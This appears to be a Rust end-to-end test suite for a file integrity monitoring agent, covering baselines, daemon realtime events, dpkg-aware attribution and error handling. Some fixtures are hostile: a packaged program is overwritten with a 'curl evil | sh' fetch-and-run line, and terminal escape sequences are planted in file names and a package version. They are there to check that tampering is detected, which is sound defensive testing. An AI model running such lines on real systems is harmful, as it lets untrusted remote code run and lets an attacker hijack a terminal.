//! `guestward-agent fim init|check|update` end to end, on a tree given with `--root`.

use crate::support::*;
use serde_json::Value;

#[test]
fn fim_init_check_update_exit_codes_through_the_agent_cli() {
    let dir = tempfile::tempdir().unwrap();
    let (root, config, state) = fim_root_setup(dir.path());
    std::fs::create_dir_all(root.join("etc/ssh")).unwrap();
    std::fs::write(root.join("etc/ssh/sshd_config"), "PermitRootLogin no\n").unwrap();
    let fim = |args: &[&str]| run_fim(&config, &root, args);

    let (code, out, err) = fim(&["check"]);
    assert_eq!(code, 2, "no baseline yet: {out}{err}");
    assert!(err.contains("fim init"), "{err}");
    let (code, out, err) = fim(&["init"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("baseline: 3 entries"), "{out}");
    assert!(state.join("fim.db").exists(), "the baseline lives in [agent] state_dir");
    let (code, out, err) = fim(&["check"]);
    assert_eq!(code, 0, "{out}{err}");

    std::fs::write(root.join("etc/ssh/sshd_config"), "PermitRootLogin yes\n").unwrap();
    let (code, out, err) = fim(&["check", "--json"]);
    assert_eq!(code, 1, "{out}{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["changes"][0]["path"], "/etc/ssh/sshd_config");
    assert_eq!(report["changes"][0]["mechanism"], "rescan");
    let (code, out, _) = fim(&["update"]);
    assert_eq!(code, 1);
    assert!(out.contains("modified") && out.contains("/etc/ssh/sshd_config"), "{out}");
    let (code, out, err) = fim(&["check"]);
    assert_eq!(code, 0, "accepted by update: {out}{err}");
}

#[test]
fn daemon_mode_reports_realtime_changes_through_agentctl_fim() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("f"), "before").unwrap();
    let daemon =
        Daemon::start_with(&format!("[fim]\npaths = [\"{}\"]\ndebounce_ms = 50\n", tree.display()), &[]);
    let ctl = |args: &[&str]| daemon.ctl(args);
    let wait = |what: &str, ready: &dyn Fn() -> bool| daemon.wait_for(ready, what);
    wait("the monitor to watch", &|| {
        let (code, out, _) = ctl(&["--json", "fim", "status"]);
        code == 0 && serde_json::from_str::<Value>(&out).is_ok_and(|s| s["state"] == "watching")
    });
    let (code, out, err) = ctl(&["fim", "baseline", "--wait"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("baseline complete: "), "{out}");
    // The baseline is the daemon's while it runs: an operator's `fim update` on the same
    // state directory would share its staging tables (two such runs once left an empty
    // baseline), so it is refused at once, naming the daemon.
    let (code, out, err) =
        run(agent().arg("--config").arg(daemon.dir_path.join("agent.toml")).args(["fim", "update"]));
    assert_eq!(code, 2, "{out}{err}");
    let pid = format!("is in use by pid {}: guestward-agent --config", daemon.pid());
    assert!(err.contains(&pid) && err.contains("agentctl fim baseline"), "{err}");
    std::fs::write(tree.join("f"), "after").unwrap();
    let path = tree.join("f").display().to_string();
    wait("the change event", &|| {
        let (_, out, _) = ctl(&["--json", "fim", "events"]);
        serde_json::from_str::<Vec<Value>>(&out).is_ok_and(|events| {
            events.iter().any(|e| {
                e["kind"] == "fim.change"
                    && e["data"]["path"] == path.as_str()
                    && e["data"]["mechanism"] == "realtime"
            })
        })
    });
    let (code, out, err) = ctl(&["fim", "events", "--since", "2000-01-01T00:00:00Z"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("modified") && out.contains(&path) && out.contains("[realtime]"), "{out}");
    let (code, out, _) = ctl(&["fim", "status"]);
    assert_eq!(code, 0, "not degraded: {out}");
    assert!(out.contains("coverage:   complete"), "{out}");
    let (code, _, err) = ctl(&["fim", "events", "--since", "yesterday"]);
    assert_eq!(code, 2, "a bad --since is a usage error: {err}");
    // --limit: beyond what one answer holds is refused, not cut silently; a full page says
    // that more may exist.
    let (code, _, err) = ctl(&["fim", "events", "--limit", "20000"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("20000") && err.contains("1..=10000"), "{err}");
    let (code, out, err) = ctl(&["fim", "events", "--since", "2000-01-01T00:00:00Z", "--limit", "1"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("the first 1 event(s) shown: there may be more"), "{out}");
    assert_eq!(daemon.terminate(), 0);
}

/// Runs `cmd` on a terminal 120 columns wide, as a person typing it (see
/// [`run_on_terminal`]).
fn run_on_pty(mut cmd: std::process::Command, limit: std::time::Duration) -> (i32, String) {
    run_on_terminal(cmd.env("TERM", "xterm-256color"), 120, limit)
}

/// Whether indicatif's bar (`{pos}/{len} entries`) was drawn: the summary lines say
/// `N entries` without the slash.
fn progress_bar_drawn(terminal: &str) -> bool {
    terminal.split(" entries").any(|before| {
        before.rsplit('/').next().is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
    }) && terminal.contains(" entries")
}

/// A root whose `/etc/conf.d` holds `files` small files, and a config watching `/etc` with a
/// first-scan rate of `files_per_sec`, so that a one-shot run takes a known while: (root,
/// config).
fn slow_fim_tree(
    dir: &std::path::Path,
    files: usize,
    files_per_sec: u32,
) -> (std::path::PathBuf, std::path::PathBuf) {
    let root = dir.join("root");
    std::fs::create_dir_all(root.join("etc/conf.d")).unwrap();
    for i in 0..files {
        std::fs::write(root.join(format!("etc/conf.d/f{i}")), format!("{i}\n")).unwrap();
    }
    let config = dir.join("agent.toml");
    std::fs::write(
        &config,
        format!(
            "[agent]\nstate_dir = \"{}\"\n\n[fim]\npaths = [\"/etc\"]\n\n[fim.initial_scan_rate]\nfiles_per_sec = {files_per_sec}\n",
            dir.join("state").display()
        ),
    )
    .unwrap();
    (root, config)
}

#[test]
fn fim_init_check_update_return_when_stderr_is_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    // 40 files at 40 files/s: about a second per run, so the bar is drawn several times.
    let (root, config) = slow_fim_tree(dir.path(), 40, 40);
    for sub in ["init", "check", "update"] {
        let mut cmd = agent();
        cmd.arg("--config").arg(&config).arg("fim").arg(sub).arg("--root").arg(&root);
        let (code, terminal) = run_on_pty(cmd, std::time::Duration::from_secs(60));
        assert_eq!(code, 0, "fim {sub} on a terminal:\n{terminal}");
        assert!(progress_bar_drawn(&terminal), "fim {sub}: no progress bar on the terminal:\n{terminal}");
        assert!(terminal.contains("42 entries"), "fim {sub}: summary missing:\n{terminal}");
    }
}

/// Ctrl-C or SIGTERM during `fim init` once killed it mid-line: the bar left unfinished and no
/// word of the work. It stops at its next file, says what became of the work, exits as a shell
/// reports the signal (130, 143), and the next run resumes what was hashed.
#[test]
fn fim_init_interrupted_by_a_signal_says_so_and_the_next_run_resumes() {
    let dir = tempfile::tempdir().unwrap();
    // 200 files at 50 files/s: four seconds, interrupted after one.
    let (root, config) = slow_fim_tree(dir.path(), 200, 50);
    for (signal, code) in [(nix::sys::signal::Signal::SIGINT, 130), (nix::sys::signal::Signal::SIGTERM, 143)]
    {
        let child = agent()
            .arg("--config")
            .arg(&config)
            .args(["fim", "init", "--root"])
            .arg(&root)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(1000));
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), signal).unwrap();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(code), "{signal}: {stderr}");
        assert!(
            stderr.contains(&format!("interrupted by {signal}")) && stderr.contains("resumes"),
            "{signal}: {stderr}"
        );
    }
    // A --state-dir that cannot be used is named as the flag, not as the config key.
    let file = dir.path().join("notadir");
    std::fs::write(&file, "").unwrap();
    let (code, _, stderr) = run_fim(&config, &root, &["check", "--state-dir", file.to_str().unwrap()]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--state-dir") && !stderr.contains("agent.state_dir"), "{stderr}");
    // No baseline was accepted; the next run completes it from what was staged.
    let (code, stdout, stderr) = run_fim(&config, &root, &["check"]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    let (code, stdout, stderr) = run_fim(&config, &root, &["init"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("resumed"), "{stdout}");
}

/// Package-aware FIM in the running daemon: a real `dpkg -i` of a package built here, under a
/// watched directory, is one `fim.package_transaction` event naming the package, with no
/// per-file alert; then the package's program replaced outside dpkg is a `fim.change`
/// attributed `outside-package-manager` with the package's and the file's digests, shown by
/// `agentctl fim events` and counted in `agentctl fim status`.
#[test]
fn the_daemon_groups_a_real_dpkg_install_and_flags_an_edit_outside_dpkg() {
    const TEST: &str = "the_daemon_groups_a_real_dpkg_install_and_flags_an_edit_outside_dpkg";
    if !is_root() {
        guestward_core::testing::skip_or_fail(TEST, "installing a package needs root");
        return;
    }
    if std::process::Command::new("dpkg-deb").arg("--version").output().is_err() {
        guestward_core::testing::skip_or_fail(TEST, "dpkg-deb is not installed");
        return;
    }
    /// Purges the package and removes its directory, also when the test fails.
    struct Installed(String, std::path::PathBuf);
    impl Drop for Installed {
        fn drop(&mut self) {
            let _ = std::process::Command::new("dpkg").args(["--purge", &self.0]).output();
            let _ = std::fs::remove_dir_all(&self.1);
        }
    }
    let name = format!("guestward-e2e-{}", std::process::id());
    let dir = std::path::Path::new("/opt").join(&name);
    let _installed = Installed(name.clone(), dir.clone());
    std::fs::create_dir_all(&dir).unwrap();
    let work = tempfile::tempdir().unwrap();
    let tool_rel = format!("opt/{name}/bin/tool");
    let deb = guestward_core::testing::build_deb(
        work.path(),
        &name,
        "1.0-1",
        &[(&tool_rel, b"#!/bin/sh\necho 1\n")],
    );

    let daemon = Daemon::start_with(
        &format!("[fim]\npaths = [\"{}\"]\ndebounce_ms = 50\n[imds]\nenabled = false\n", dir.display()),
        &[],
    );
    let events = || -> Vec<Value> {
        let (_, out, _) = daemon.ctl(&["--json", "fim", "events", "--since", "2000-01-01T00:00:00Z"]);
        serde_json::from_str(&out).unwrap_or_default()
    };
    let (code, out, err) = daemon.ctl(&["fim", "baseline", "--wait"]);
    assert_eq!(code, 0, "{out}{err}");

    guestward_core::testing::dpkg_retrying(&["-i".as_ref(), deb.as_os_str()]);
    daemon.wait_for(
        || {
            events().iter().any(|e| {
                e["kind"] == "fim.package_transaction"
                    && e["data"]["packages"]
                        .as_array()
                        .is_some_and(|p| p.iter().any(|p| p["name"] == name.as_str()))
            })
        },
        "the grouped package transaction",
    );
    let tool = dir.join("bin/tool").display().to_string();
    assert!(
        !events().iter().any(|e| e["kind"] == "fim.change" && e["data"]["path"] == tool.as_str()),
        "the installed file is in the transaction, not an alert of its own: {:#?}",
        events()
    );

    std::fs::write(dir.join("bin/tool"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    daemon.wait_for(
        || {
            events().iter().any(|e| {
                e["kind"] == "fim.change"
                    && e["data"]["path"] == tool.as_str()
                    && e["data"]["package"]["origin"] == "outside-package-manager"
            })
        },
        "the edit outside dpkg, attributed",
    );
    let flagged = events()
        .into_iter()
        .find(|e| e["kind"] == "fim.change" && e["data"]["path"] == tool.as_str())
        .unwrap();
    let package = &flagged["data"]["package"];
    assert_eq!(package["owner"]["name"], name.as_str(), "{flagged:#}");
    // The digests as dpkg recorded it and as md5sum reads the file now.
    let recorded = std::fs::read_to_string(format!("/var/lib/dpkg/info/{name}.md5sums")).unwrap();
    let recorded = recorded.split_whitespace().next().unwrap();
    let (_, now, _) = run(std::process::Command::new("md5sum").arg(&tool));
    assert_eq!(package["expected"]["hex"], recorded, "{flagged:#}");
    assert_eq!(package["actual"]["hex"], now.split_whitespace().next().unwrap(), "{flagged:#}");
    let (code, out, err) = daemon.ctl(&["fim", "events", "--since", "2000-01-01T00:00:00Z"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("package transaction dpkg-"), "{out}");
    assert!(out.contains(&format!("package {name} 1.0-1 (dpkg): outside-package-manager")), "{out}");
    assert_eq!(daemon.terminate(), 0);
}

/// A state directory that fills up during `fim init` ends the init with exit 2 and the store's
/// error, promptly. It hung: the writer failed, the hashing threads stopped, and the walk waited
/// forever for room in their queue. The full disk is a file-size limit here (`prlimit
/// --fsize`, with SIGXFSZ ignored, so a write past it fails with EFBIG as one to a full disk
/// fails with ENOSPC): no mount, no root.
#[test]
fn fim_init_fails_instead_of_hanging_when_the_state_directory_fills_up() {
    let prlimit = ["/usr/bin/prlimit", "/bin/prlimit"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("prlimit (util-linux) is needed");
    let dir = tempfile::tempdir().unwrap();
    let (root, config, state) = fim_root_setup(dir.path());
    // Rows enough to outgrow the limit, in job batches enough to fill the walk's queue.
    for d in 0..20 {
        let sub = root.join(format!("etc/d{d}"));
        std::fs::create_dir_all(&sub).unwrap();
        for f in 0..300 {
            std::fs::write(sub.join(format!("file-with-a-longish-name-{f}")), format!("{d} {f}\n")).unwrap();
        }
    }
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("-c")
        .arg("trap '' XFSZ; exec \"$@\"")
        .arg("sh")
        .arg(prlimit)
        .arg("--fsize=262144")
        .arg(env!("CARGO_BIN_EXE_guestward-agent"))
        .arg("--config")
        .arg(&config)
        .args(["fim", "init", "--no-progress", "--root"])
        .arg(&root)
        .env_remove("GUESTWARD_LOG")
        .env_remove("RUST_LOG");
    let (code, out, err, _) = run_bounded(&mut cmd, std::time::Duration::from_secs(120));
    assert_eq!(code, Some(2), "{out}{err}");
    assert!(err.contains("fim.db") || err.contains(&state.display().to_string()), "names the store: {err}");
    assert!(!out.contains("baseline: "), "no baseline claimed: {out}");
}

/// `fim init --root` on an image whose dpkg database was written by someone else: a version
/// and a path with terminal escape sequences (retitle the window, turn the text red) reach the
/// terminal escaped, as in `fim check`, and more package files flagged than the list holds end
/// in how many more there are. Exit 1: package files differ from their packages.
#[test]
fn fim_init_lists_a_hostile_package_database_escaped_and_says_how_many_more_it_found() {
    const HOSTILE: &str = "\x1b]0;pwned\x07\x1b[31m";
    const SHOWN: &str = "\\x1b]0;pwned\\x07\\x1b[31m";
    const FILES: usize = guestward_fim::package::MAX_REPORTED_OUTSIDE + 10;
    let dir = tempfile::tempdir().unwrap();
    let (root, config, _state) = fim_root_setup(dir.path());
    let names: Vec<String> = (0..FILES).map(|i| format!("etc/gw/file{i:03}{HOSTILE}")).collect();
    let mut sums = String::new();
    let mut list = String::from("/.\n/etc\n/etc/gw\n");
    std::fs::create_dir_all(root.join("etc/gw")).unwrap();
    for name in &names {
        // On disk other than the package has it: every one is flagged.
        std::fs::write(root.join(name), "changed\n").unwrap();
        sums.push_str(&format!("{}  {name}\n", "0".repeat(32)));
        list.push_str(&format!("/{name}\n"));
    }
    let info = root.join("var/lib/dpkg/info");
    std::fs::create_dir_all(&info).unwrap();
    std::fs::write(info.join("gw-hostile.md5sums"), sums).unwrap();
    std::fs::write(info.join("gw-hostile.list"), list).unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/status"),
        format!(
            "Package: gw-hostile\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0{HOSTILE}\nDescription: test\n\n"
        ),
    )
    .unwrap();
    let (code, out, err) = run_fim(&config, &root, &["init", "--no-progress"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        !out.contains('\x1b') && !out.contains('\x07'),
        "raw control characters reached the terminal: {out:?}"
    );
    let listed: Vec<&str> = out.lines().filter(|l| l.starts_with("PACKAGE MISMATCH: ")).collect();
    assert_eq!(listed.len(), guestward_fim::package::MAX_REPORTED_OUTSIDE, "{out}");
    assert!(
        listed.iter().all(|l| l.contains(&format!("{SHOWN} (package gw-hostile 1.0{SHOWN} (dpkg)"))),
        "{out}"
    );
    assert!(out.contains("... and 10 more package file(s) not matching their package"), "{out}");
    assert!(out.contains(&format!("{FILES} do not match")), "{out}");
}

/// Package data the trust anchor cannot read leaves those packages' files unverified, and
/// `fim init` says so, naming it: once it printed "0 do not match" over a trojaned file whose
/// package's stanza had a malformed `Conffiles` line, or whose `.md5sums` was a FIFO.
#[test]
fn fim_init_names_the_package_data_it_could_not_read_instead_of_calling_its_files_verified() {
    // `printf 'decoy\n' | md5sum`, `printf 'good\n' | md5sum`.
    const DECOY_MD5: &str = "7850484a8394a2f74d72ac2d0db71c41";
    const GOOD_MD5: &str = "d7f986677d9f563bd1794b09d82206a3";
    let dir = tempfile::tempdir().unwrap();
    let (root, config, state) = fim_root_setup(dir.path());
    let info = root.join("var/lib/dpkg/info");
    std::fs::create_dir_all(&info).unwrap();
    std::fs::create_dir_all(root.join("usr/bin")).unwrap();
    std::fs::write(root.join("usr/bin/decoy"), "decoy\n").unwrap();
    std::fs::write(root.join("usr/bin/good"), "trojan\n").unwrap();
    std::fs::write(info.join("decoy.list"), "/usr/bin/decoy\n").unwrap();
    std::fs::write(info.join("decoy.md5sums"), format!("{DECOY_MD5}  usr/bin/decoy\n")).unwrap();
    std::fs::write(info.join("good.list"), "/usr/bin/good\n").unwrap();
    std::fs::write(info.join("good.md5sums"), format!("{GOOD_MD5}  usr/bin/good\n")).unwrap();
    let stanza = |conffiles: &str| {
        format!(
            "Package: decoy\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n\
             Package: good\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0\n{conffiles}\n"
        )
    };
    let write_config = |paths: &str| {
        let text = std::fs::read_to_string(&config).unwrap();
        let head = text.split("[fim]").next().unwrap().to_string();
        std::fs::write(&config, format!("{head}[fim]\npaths = [{paths}]\n")).unwrap();
    };
    write_config("\"/usr\", \"/etc\"");
    // 1. A Conffiles line without a digest: the stanza is not read.
    std::fs::write(root.join("var/lib/dpkg/status"), stanza("Conffiles:\n /etc/other.conf\n")).unwrap();
    let (code, out, err) = run_fim(&config, &root, &["init", "--no-progress"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("0 do not match; 1 part of the package databases could not be read"), "{out}");
    let named: Vec<&str> = out.lines().filter(|l| l.starts_with("NOT VERIFIED: ")).collect();
    assert!(named.len() == 1 && named[0].contains("var/lib/dpkg/status:"), "{out}");
    // 2. The package's `.md5sums` is a FIFO: never opened, and said.
    std::fs::remove_dir_all(&state).unwrap();
    std::fs::write(root.join("var/lib/dpkg/status"), stanza("")).unwrap();
    std::fs::remove_file(info.join("good.md5sums")).unwrap();
    nix::unistd::mkfifo(&info.join("good.md5sums"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let (code, out, err) = run_fim(&config, &root, &["init", "--no-progress", "--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let problems = report["summary"]["baseline"]["problems"].as_array().unwrap();
    assert!(
        problems.iter().any(|p| p["code"] == "packages_unverified" && p.to_string().contains("good.md5sums")),
        "{out}"
    );
    assert!(err.contains("good.md5sums"), "said on stderr too: {err}");
    // 3. Readable again: the trojan is flagged.
    std::fs::remove_dir_all(&state).unwrap();
    std::fs::remove_file(info.join("good.md5sums")).unwrap();
    std::fs::write(info.join("good.md5sums"), format!("{GOOD_MD5}  usr/bin/good\n")).unwrap();
    let (code, out, err) = run_fim(&config, &root, &["init", "--no-progress"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("/usr/bin/good") && !out.contains("NOT VERIFIED"), "{out}");
}

/// The trust anchor of an init run without root: a package file under a directory the agent may
/// not search is not judged (whether it is there is not known), never reported as removed
/// outside the package manager, while a package file really gone still is. Both used to be
/// "missing": every package file under a 0700 directory (polkit's rules.d on Debian) came out
/// as a high-severity finding. As root the binary runs as `nobody` (setpriv); as another user
/// the directory is closed to its owner too (mode 000).
#[test]
fn fim_init_without_root_never_calls_an_unreachable_package_file_missing() {
    use std::os::unix::fs::PermissionsExt;
    const NAME: &str = "fim_init_without_root_never_calls_an_unreachable_package_file_missing";
    let setpriv_bin = setpriv();
    if is_root() && setpriv_bin.is_none() {
        guestward_core::testing::skip_or_fail(NAME, "setpriv (util-linux) is needed to drop root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let (root, config, state) = fim_root_setup(dir.path());
    // The agent keeps its state only in a directory of its own user.
    std::fs::create_dir_all(&state).unwrap();
    if is_root() {
        let nobody = (nix::unistd::Uid::from_raw(65534), nix::unistd::Gid::from_raw(65534));
        nix::unistd::chown(&state, Some(nobody.0), Some(nobody.1)).unwrap();
    }
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let files = ["etc/gw/open/a", "etc/gw/closed/b", "etc/gw/gone"];
    for f in files {
        let p = root.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, format!("content of /{f}\n")).unwrap();
    }
    let sums = std::process::Command::new("md5sum").current_dir(&root).args(files).output().unwrap();
    assert!(sums.status.success(), "md5sum: {sums:?}");
    let info = root.join("var/lib/dpkg/info");
    std::fs::create_dir_all(&info).unwrap();
    std::fs::write(info.join("gw-anchor.md5sums"), &sums.stdout).unwrap();
    std::fs::write(
        info.join("gw-anchor.list"),
        "/.\n/etc\n/etc/gw\n/etc/gw/open\n/etc/gw/open/a\n/etc/gw/closed\n/etc/gw/closed/b\n/etc/gw/gone\n",
    )
    .unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/status"),
        "Package: gw-anchor\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0\nDescription: test\n\n",
    )
    .unwrap();
    std::fs::remove_file(root.join("etc/gw/gone")).unwrap();
    let closed = root.join("etc/gw/closed");
    // Reopened however the test ends, so that the temporary directory can be removed.
    struct Reopen(std::path::PathBuf);
    impl Drop for Reopen {
        fn drop(&mut self) {
            let _ = std::fs::set_permissions(&self.0, std::fs::Permissions::from_mode(0o755));
        }
    }
    let _reopen = Reopen(closed.clone());
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(if is_root() { 0o700 } else { 0o000 }))
        .unwrap();

    let agent_bin = env!("CARGO_BIN_EXE_guestward-agent");
    let init = |json: bool| {
        let mut cmd = match setpriv_bin.filter(|_| is_root()) {
            Some(setpriv) => {
                let mut c = std::process::Command::new(setpriv);
                c.args(["--reuid=65534", "--regid=65534", "--clear-groups", agent_bin]);
                c
            }
            None => std::process::Command::new(agent_bin),
        };
        cmd.arg("--config")
            .arg(&config)
            .args(["fim", "init", "--no-progress", "--root"])
            .arg(&root)
            .args(json.then_some("--json"))
            .env_remove("GUESTWARD_LOG")
            .env_remove("RUST_LOG");
        run(&mut cmd)
    };
    // Exit 1: a package file differs from its package (the one really gone).
    let (code, out, err) = init(true);
    assert_eq!(code, 1, "{out}{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let baseline = &report["summary"]["baseline"];
    let flagged: Vec<&str> = baseline["package_mismatches"]
        .as_array()
        .unwrap_or_else(|| panic!("{baseline}"))
        .iter()
        .filter_map(|m| m["path"].as_str())
        .collect();
    assert_eq!(flagged, vec!["/etc/gw/gone"], "{baseline}");
    assert_eq!(baseline["package_mismatch_count"], 1, "{baseline}");
    // The directory the agent could not read is named among the scan's problems.
    let problems = report["summary"]["stats"]["problems"].as_array().cloned().unwrap_or_default();
    assert!(
        problems.iter().any(|p| p["path"] == "/etc/gw/closed" && p["code"] == "permission_denied"),
        "{problems:?}"
    );
    // The same in words (an init over that baseline): the gap named where the baseline's size
    // is, and on stderr.
    let (code, out, err) = init(false);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains(", 1 unreadable (see --json)"), "{out}");
    assert!(out.contains("PACKAGE MISMATCH: /etc/gw/gone (") && !out.contains("/etc/gw/closed/b"), "{out}");
    assert!(err.contains("/etc/gw/closed: Permission denied"), "{err}");
    assert!(err.contains("needs CAP_DAC_READ_SEARCH"), "the warning does not say what to do: {err}");
    // A baseline this user may not write is refused at once, saying so, and keeps its mode
    // (SQLite opened it read-only without a word: the command first made it 0600, then failed
    // at its first write with "attempt to write a readonly database").
    let db = state.join("fim.db");
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o400)).unwrap();
    let (code, out, err) = init(false);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("fim.db: is not writable by this user"), "{err}");
    assert_eq!(std::fs::metadata(&db).unwrap().permissions().mode() & 0o777, 0o400);
}

/// `fim baseline` (without --wait) while the daemon built its first baseline said only "no
/// complete baseline yet (0 entries recorded so far)", though the help promises the entries
/// recorded and bytes hashed, and `--json` had them in `scan_progress`.
#[test]
fn baseline_without_wait_shows_the_first_baseline_s_progress() {
    let tree = tempfile::tempdir().unwrap();
    for i in 0..200 {
        std::fs::write(tree.path().join(format!("f{i}")), format!("content {i}\n")).unwrap();
    }
    // 20 files a second: the first baseline takes about 10 s, long enough to be watched.
    let daemon = Daemon::start_with(
        &format!(
            "[imds]\nenabled = false\n[fim]\npaths = [\"{}\"]\n[fim.initial_scan_rate]\nfiles_per_sec = 20\n",
            tree.path().display()
        ),
        &[],
    );
    let mut seen = None;
    daemon.wait_for(
        || {
            let (code, out, err) = daemon.ctl(&["fim", "baseline"]);
            assert!(code == 0 || code == 1, "{out}{err}");
            if out.contains("building it") {
                seen = Some((code, out));
            }
            seen.is_some() || code == 0
        },
        "the first baseline's progress",
    );
    let (code, out) = seen.expect("the baseline completed before its progress was ever shown");
    assert_eq!(code, 1, "{out}");
    assert!(out.starts_with("no complete baseline yet; the agent is building it: "), "{out}");
    assert!(out.contains(" entries, ") && out.contains(" hashed, "), "{out}");
}

/// An image build waits for the first baseline with `fim baseline --wait`, and the agent may be
/// restarted meanwhile (a config change, a package upgrade). The wait went on only until the
/// agent stopped (exit 2, "not running"); now it waits for the agent to come back, says so on
/// stderr, and ends when the baseline is complete.
#[test]
fn baseline_wait_goes_on_through_an_agent_restart() {
    use std::io::Read;
    let tree = tempfile::tempdir().unwrap();
    for i in 0..200 {
        std::fs::write(tree.path().join(format!("f{i}")), format!("content {i}\n")).unwrap();
    }
    // 20 files a second: the first baseline takes about 10 s, and is restarted under the wait.
    let mut daemon = Daemon::start_with(
        &format!(
            "[imds]\nenabled = false\n[fim]\npaths = [\"{}\"]\n[fim.initial_scan_rate]\nfiles_per_sec = 20\n",
            tree.path().display()
        ),
        &[],
    );
    let mut waiter = agentctl()
        .arg("--socket")
        .arg(&daemon.socket)
        .args(["fim", "baseline", "--wait"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    daemon.wait_for(
        || daemon.ctl(&["fim", "baseline"]).1.contains("building it"),
        "the first baseline under way",
    );
    daemon.restart_after(std::time::Duration::from_secs(2));
    let status = guestward_core::testing::wait_bounded(&mut waiter, std::time::Duration::from_secs(120));
    let (mut out, mut err) = (String::new(), String::new());
    waiter.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    waiter.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    assert_eq!(status.and_then(|s| s.code()), Some(0), "{out}{err}");
    assert!(out.lines().last().is_some_and(|l| l.starts_with("baseline complete: ")), "{out}");
    assert!(
        err.contains("waiting for it to come back") && err.contains("waiting for the baseline again"),
        "{err}"
    );
}
